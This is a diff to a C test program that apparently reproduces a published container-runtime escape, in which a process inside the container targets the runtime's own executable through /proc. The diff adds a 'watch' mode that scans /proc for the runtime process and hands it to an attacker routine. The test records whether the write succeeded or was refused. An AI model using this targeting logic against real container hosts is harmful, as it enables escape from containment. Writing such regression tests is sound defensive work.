@@ -18,8 +18,16 @@
  *
  * B writes OUT/opened (the target of the link) and OUT/result ("written",
  * or the call and the error that refused it).
- * argv: /proc/self/exe MODE OUT SELF, SELF being where this file is. */
+ * argv: /proc/self/exe MODE OUT SELF, SELF being where this file is.
+ *
+ * `watch OUT` (the container's init, in a PID namespace of its own: it sees
+ * the container's processes alone) is the form that needs no dynamic
+ * loader, so that a static runtime faces it too: it waits for a process
+ * whose executable is neither its own nor busybox (the runtime, executing
+ * a `#!/proc/self/exe` entry the test runs with `exec`, as the published
+ * exploit's /bin/sh does), then goes on as B does with that process. */
 #define _GNU_SOURCE
+#include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
 #include <stdio.h>
@@ -79,8 +87,43 @@ static void attacker(pid_t target, int ready)
     }
 }
 
+static void watch(void)
+{
+    char me[256], link[256], path[64];
+    ssize_t n = readlink("/proc/self/exe", me, sizeof(me) - 1);
+    me[n > 0 ? n : 0] = '\0';
+    for (;;) {
+        DIR *d = opendir("/proc");
+        if (!d)
+            _exit(1);
+        struct dirent *e;
+        while ((e = readdir(d))) {
+            int pid = atoi(e->d_name);
+            if (pid <= 0 || pid == (int)getpid())
+                continue;
+            snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+            n = readlink(path, link, sizeof(link) - 1);
+            if (n <= 0)
+                continue;
+            link[n] = '\0';
+            if (strcmp(link, me) == 0 || strcmp(link, "/bin/busybox") == 0)
+                continue;
+            int p[2];
+            if (pipe(p) < 0)
+                _exit(1);
+            closedir(d);
+            attacker(pid, p[1]); /* does not return */
+        }
+        closedir(d);
+    }
+}
+
 int main(int argc, char **argv)
 {
+    if (argc == 3 && strcmp(argv[1], "watch") == 0) {
+        out = argv[2];
+        watch();
+    }
     if (argc == 5 && strcmp(argv[0], "attack") == 0) {
         out = argv[3];
         attacker(atoi(argv[1]), atoi(argv[2]));
